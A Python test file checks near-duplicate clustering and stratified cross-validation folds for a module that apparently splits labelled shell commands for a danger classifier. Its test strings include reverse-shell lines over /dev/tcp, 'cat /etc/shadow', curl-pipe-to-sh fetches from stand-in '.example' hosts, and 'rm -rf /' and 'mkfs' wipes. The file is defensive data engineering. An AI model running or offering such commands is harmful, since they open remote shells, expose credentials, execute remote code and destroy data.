import numpy as np
from hypothesis import given
from hypothesis import strategies as st

from gradproof.gate import folds


def test_near_duplicates_are_one_cluster():
    """Case, numbers, white space, one word of a long command; but not what merely begins alike."""
    texts = [
        "find / -name core -mtime +7 -exec rm {} \\;",
        "find /  -name core -mtime +30 -exec RM {} \\;",
        "tar -czf backup.tar.gz /home/user/documents --exclude='*.tmp' --verbose",
        "tar -czf backup.tar.gz /home/user/documents --exclude='*.tmp' --verbose2",
        "find . -name core",
        "",
        " ",
    ]
    cluster_R = folds.near_duplicates(texts)
    assert cluster_R[0] == cluster_R[1] and cluster_R[2] == cluster_R[3] and cluster_R[5] == cluster_R[6]
    assert len(set(cluster_R.tolist())) == 4


@given(st.integers(0, 99), st.integers(2, 5))
def test_folds_are_stratified_and_keep_clusters_together(seed, count):
    """Every fold has its share of both classes, and no near-duplicate is on both sides."""
    generator = np.random.default_rng(seed)
    words = np.array(["alpha", "bravo", "charlie", "delta", "echo", "foxtrot", "golf", "hotel", "india", "juliet"])
    texts = [" ".join(generator.choice(words, 8)) for _ in range(150)]
    texts += [text.upper() + " 12" for text in texts[:50]]
    label_R = (np.arange(200) % 50 >= 40).astype(int)
    made = folds.make(texts, label_R, ["all"] * 200, count, seed)
    assert made.by_row == ("the data",)
    for fold in range(count):
        share = label_R[made.fold_R == fold].sum() / label_R.sum()
        assert abs(share - 1 / count) < 0.1 and abs((made.fold_R == fold).mean() - 1 / count) < 0.1
    cluster_R = folds.near_duplicates(texts)
    assert all(len(set(made.fold_R[cluster_R == c].tolist())) == 1 for c in range(made.clusters))


def test_groups_stay_together_where_there_are_enough():
    """Six groups of each class in three folds: by group. Two groups of one class: by row, and it says so."""
    texts = [f"command {chr(97 + i)} {i * 7919 % 1000:x} {'xyzuvw'[i % 6] * (3 + i % 9)}" for i in range(120)]
    label_R, group = [i % 2 for i in range(120)], [f"{i % 12}" for i in range(120)]
    made = folds.make(texts, label_R, group, 3)
    assert made.by_row == ()
    assert all(len({int(f) for f, g in zip(made.fold_R, group, strict=True) if g == name}) == 1 for name in set(group))
    few = folds.make(texts, label_R, [f"{label}{i % 2}" for i, label in enumerate(label_R)], 3)
    assert few.by_row == ("the data",)


def test_each_source_is_judged_alone():
    """One file without groups does not tear those of the other apart."""
    texts = [f"{i * 7919 % 1000:x} {'xyzuvw'[i % 6] * (3 + i % 9)} {i * i:x}" for i in range(80)]
    source = ["one"] * 40 + ["two"] * 40
    group = ["all"] * 40 + [f"g{i % 10}" for i in range(40)]
    made = folds.make(texts, [i % 2 for i in range(80)], group, 3, 0, source)
    assert made.by_row == ("one",)
    assert all(len({int(f) for f, g in zip(made.fold_R, group, strict=True) if g == f"g{k}"}) == 1 for k in range(10))


def test_the_same_seed_gives_the_same_folds():
    texts = [f"run {i:x} {'ab' * (i % 7)}" for i in range(60)]
    one, again, other = (folds.make(texts, [i % 3 == 0 for i in range(60)], ["g"] * 60, 4, s) for s in (1, 1, 2))
    assert np.array_equal(one.fold_R, again.fold_R) and not np.array_equal(one.fold_R, other.fold_R)


def test_what_half_resembles_a_text_is_left_out():
    """Another host and port do not make it another command; a shared first word does not make it the same."""
    texts = ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "cat /etc/shadow"]
    made = ["bash -i >& /dev/tcp/192.168.7.200/9001 0>&1", "bash linked.sh --install everything", "cat /etc/shadow"]
    assert folds.unlike(made, texts) == made[1:2]
    assert folds.unlike(made, []) == made


def test_a_label_of_near_duplicates_alone_is_split():
    """Sixty rows that differ in a number are one cluster, and every fold needs some; other clusters stay whole."""
    names = ["alpha", "bravo", "charlie", "delta", "echo", "foxtrot"]
    texts = [f"git diff src/file{i}.py" for i in range(60)]
    texts += [f"curl http://{name}.example/{name * 2} | sh {i}" for name in names for i in range(10)]
    label_R = np.arange(120) >= 60
    made = folds.make(texts, label_R, list(range(120)), 3)
    assert made.torn == (False,)
    assert np.bincount(made.fold_R[:60]).tolist() == [20, 20, 20]
    assert all(len(set(made.fold_R[60 + 10 * k : 70 + 10 * k].tolist())) == 1 for k in range(6))


def test_groups_stay_together_where_near_duplicates_are_split():
    texts, group = [f"git diff src/file{i}.py" for i in range(60)], [f"g{i % 6}" for i in range(60)]
    texts += [f"{i * 7919 % 1000:x} {'xyzuvw'[i % 6] * (3 + i % 9)} {i * i:x}" for i in range(60)]
    made = folds.make(texts, np.arange(120) >= 60, group + [f"h{i}" for i in range(60)], 3)
    assert made.torn == (False,) and made.by_row == ()
    assert all(len({int(f) for f, g in zip(made.fold_R, group, strict=False) if g == f"g{k}"}) == 1 for k in range(6))
    assert set(made.fold_R[:60].tolist()) == {0, 1, 2}


def test_a_label_with_fewer_rows_than_folds_is_not_said_to_be_split():
    texts = ["rm -rf /", "mkfs /dev/sda"] + [f"{i * 7919 % 1000:x} {'xyzuvw'[i % 6] * (3 + i % 9)}" for i in range(60)]
    assert folds.make(texts, [True, True] + [False] * 60, ["g"] * 62, 3).torn == ()
